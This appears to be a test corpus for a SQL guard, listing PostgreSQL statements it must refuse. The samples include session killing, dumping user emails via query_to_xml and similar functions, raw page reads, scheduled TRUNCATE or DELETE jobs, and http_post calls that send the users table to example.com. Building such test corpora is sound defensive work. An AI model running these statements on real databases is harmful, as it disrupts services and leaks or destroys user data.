-- refuse: no-dangerous-function
-- Functions that reach past the statement that calls them.

SELECT pg_terminate_backend(0)

SELECT pg_catalog."pg_cancel_backend"(0)

SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE pid = 0

SELECT pg_terminate_backend(pid => 0, timeout => 1)

SELECT (0).pg_cancel_backend

SELECT 0 FROM users HAVING bool_or(pg_cancel_backend(0))

-- returns: example.com
SELECT query_to_xml('SELECT email FROM users', true, false, '')

-- returns: example.com
SELECT table_to_xml('users', true, false, '')

-- returns: example.com
SELECT schema_to_xml('public', true, false, '')

-- returns: example.com
SELECT database_to_xml(true, false, '')

-- returns: example.com
SELECT query_to_xml(query => convert_from('\x53454c45435420656d61696c2046524f4d207573657273', 'UTF8'), nulls => true, tableforest => false, targetns => '')

-- returns: example.com
DECLARE c CURSOR FOR SELECT email FROM users; SELECT cursor_to_xml('c', 10, true, false, '')

-- returns: ada
SELECT word FROM ts_stat($$ SELECT to_tsvector('simple', replace(email, '@', ' ')) FROM users $$)

-- returns: example.com
SELECT * FROM crosstab('SELECT id::text, name, email FROM users') AS t (a text, b text)

SELECT * FROM connectby('orders', 'id', 'user_id', '1', 0) AS t (a int, b int, c int)

-- returns: example
SELECT * FROM xpath_table('id', '''<a>'' || email || ''</a>''', 'users', '/a', 'true') AS t (id int, a text)

-- not run: nobody listens there
SELECT * FROM dblink('host=127.0.0.1 port=1', 'SELECT 1') AS t (a int)

-- not run: nobody listens there
SELECT dblink_get_connections(), dblink_connect('x', 'host=127.0.0.1 port=1')

SELECT length(get_raw_page('users', 0))

SELECT t_data FROM heap_page_items(get_raw_page('users', 0))

INSERT INTO audit_log (what) SELECT lp FROM heap_page_items(get_raw_page('users', 'main', 0))

-- shows: SELECT count(*) FROM queue => 2
SELECT heap_force_kill('queue', ARRAY['(0,1)'::tid])

SELECT pg_truncate_visibility_map('users')

SELECT pg_switch_wal()

SELECT pg_create_restore_point('x')

SELECT pg_logical_emit_message(false, 'x', 'y')

-- undo: SELECT pg_drop_replication_slot('picket_corpus')
SELECT pg_create_physical_replication_slot('picket_corpus')

-- alone
-- undo: SELECT pg_drop_replication_slot('picket_corpus_l')
SELECT pg_create_logical_replication_slot('picket_corpus_l', 'test_decoding')

SELECT pg_replication_origin_create('x')

SELECT pg_reload_conf()

SELECT pg_rotate_logfile()

-- not run: only a standby can be promoted
SELECT pg_promote()

-- not run: only during recovery
SELECT pg_wal_replay_pause()

SELECT pg_stat_reset()

SELECT pg_stat_reset_shared('bgwriter')

SELECT pg_log_backend_memory_contexts(pg_backend_pid())

SELECT pg_import_system_collations('archive')

SELECT lo_unlink(lo_create(0))

-- returns: example.com
EXPLAIN ANALYZE SELECT query_to_xml('SELECT 1', true, false, ''); SELECT email FROM users

-- returns: example.com
COPY (SELECT query_to_xml('SELECT email FROM users', true, false, '')) TO STDOUT

-- then: EXECUTE p
PREPARE p AS SELECT table_to_xml('users', true, false, '')

-- then: SELECT * FROM leak
CREATE VIEW leak AS SELECT table_to_xml('users', true, false, '')

-- then: SELECT leak()
CREATE FUNCTION leak() RETURNS xml LANGUAGE sql AS 'SELECT table_to_xml(''users'', true, false, '''')'

-- then: SELECT leak()
CREATE FUNCTION leak() RETURNS bool BEGIN ATOMIC SELECT pg_rotate_logfile(); END

-- then: UPDATE users SET active = true WHERE id = 1
CREATE POLICY leak ON users USING (pg_cancel_backend(0))

UPDATE orders SET quantity = 1 WHERE id = 1 AND NOT pg_cancel_backend(0)

SELECT 1; SELECT pg_reload_conf()

SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', min(replace(email, ''@'', ''x''))) FROM users')

-- before: SELECT lo_from_bytea(4242, 'x')
-- shows: SELECT length(lo_get(4242)) => 0
SELECT lo_truncate(lo_open(4242, 131072), 0)

-- before: SELECT lo_from_bytea(4242, 'x')
-- shows: SELECT length(lo_get(4242)) => 0
select pg_catalog . "lo_truncate64"(lo_open(4242, 393216), 0)

-- not run: it would need an origin
SELECT pg_replication_origin_xact_setup('0/1', now())

-- not run: it would need an origin
SELECT pg_replication_origin_session_reset()

SELECT pg_replication_origin_xact_reset()

-- not run: it is only taken while the server is upgraded
SELECT binary_upgrade_set_next_pg_type_oid(1)

-- extensions that run a text later, or elsewhere
-- not run: the extension is not there
SELECT cron.schedule('* * * * *', 'TRUNCATE orders')

-- not run: the extension is not there
select "cron" . schedule_in_database('gone', '* * * * *', $$ DELETE FROM orders $$, 'shop')

-- not run: the extension is not there
SELECT run_command_on_workers('TRUNCATE orders')

-- not run: the extension is not there
SELECT status FROM http_post('https://example.com', (SELECT json_agg(users) FROM users)::text, 'application/json')

-- not run: the extension is not there
SELECT net.http_post(url := 'https://example.com', body := (SELECT jsonb_agg(u) FROM users u))

-- not run: the extension is not there
SELECT drop_chunks('orders', older_than => now())
